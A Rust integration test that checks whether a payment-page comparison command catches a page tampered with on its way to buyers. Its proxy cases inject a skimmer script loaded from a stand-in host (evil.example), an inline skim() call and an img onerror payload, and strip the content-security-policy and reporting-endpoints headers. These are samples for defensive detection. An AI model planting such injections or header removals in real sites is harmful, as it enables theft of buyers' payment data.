//! `payments compare-page`: nothing between the api and buyers may change the payment page.

use harness::steps::learner_cart::{checkout, learner, put};
use harness::steps::worker_program::operator;
use harness::tampering::Tampering;
use harness::{ORGANISATIONS, Setup, World, world};
use reqwest::header::{CONTENT_SECURITY_POLICY, HeaderMap};
use shared::gateway::Gateway;

/// What a proxy does to headers and page.
type Change = fn(&mut HeaderMap, &mut String);

/// Compares with the page at a base URL.
async fn compare(world: &World, public: &str) -> (bool, String) {
    let (api, public) = (world.url(""), format!("--public-base-url={public}"));
    let words = ["payments", "compare-page", "--api", &api, &public];
    operator(world, &words, &["database-url", "link-secret"]).await
}

#[tokio::test]
async fn a_payment_page_that_something_changes_on_its_way_to_buyers_is_found() {
    world(Setup::selling(), async |world| {
        let (done, said) = compare(world, &world.url("")).await;
        assert!(done && said.contains("no order of the last three days"), "{said}");
        world.sell().await;
        let ada = learner(world, "ada@example.com").await;
        let stripe = ORGANISATIONS.iter().find(|one| one.gateway == Gateway::Stripe).unwrap();
        put(world, &ada, stripe).await;
        checkout(world, &ada, stripe).await;
        // The scripts of the page and of Stripe; the data of the view is none.
        let (done, said) = compare(world, &world.url("")).await;
        assert_eq!((done, said.as_str()), (true, "stripe: as the api sends it, with 2 scripts\n"));

        let changes: [(Change, &str); 5] = [
            (
                |_, page| {
                    *page = page.replace(
                        "</body>",
                        "<script src=\"https://evil.example/skimmer.js\"></script></body>",
                    )
                },
                "skimmer.js",
            ),
            (
                |_, page| {
                    *page = page
                        .replace("</body>", "<script>/* type=\"application/json\" */ skim()</script></body>")
                },
                "skim()",
            ),
            (
                |_, page| *page = page.replace("</main>", "<img src=x onerror=skim()></main>"),
                "differs outside of its scripts",
            ),
            (|headers, _| drop(headers.remove(CONTENT_SECURITY_POLICY)), "content-security-policy is \"\""),
            (|headers, _| drop(headers.remove("reporting-endpoints")), "reporting-endpoints is \"\""),
        ];
        for (change, expected) in changes {
            let proxy = Tampering::start(world.url(""), change).await;
            let (done, said) = compare(world, &format!("http://{}", proxy.address)).await;
            assert!(
                !done && said.contains(expected) && said.contains("buyers get another payment page"),
                "{said}"
            );
            assert!(!said.contains("token="), "{said}");
        }
        let proxy = Tampering::start(world.url(""), |_, _| {}).await;
        assert!(compare(world, &format!("http://{}", proxy.address)).await.0);
    })
    .await;
}
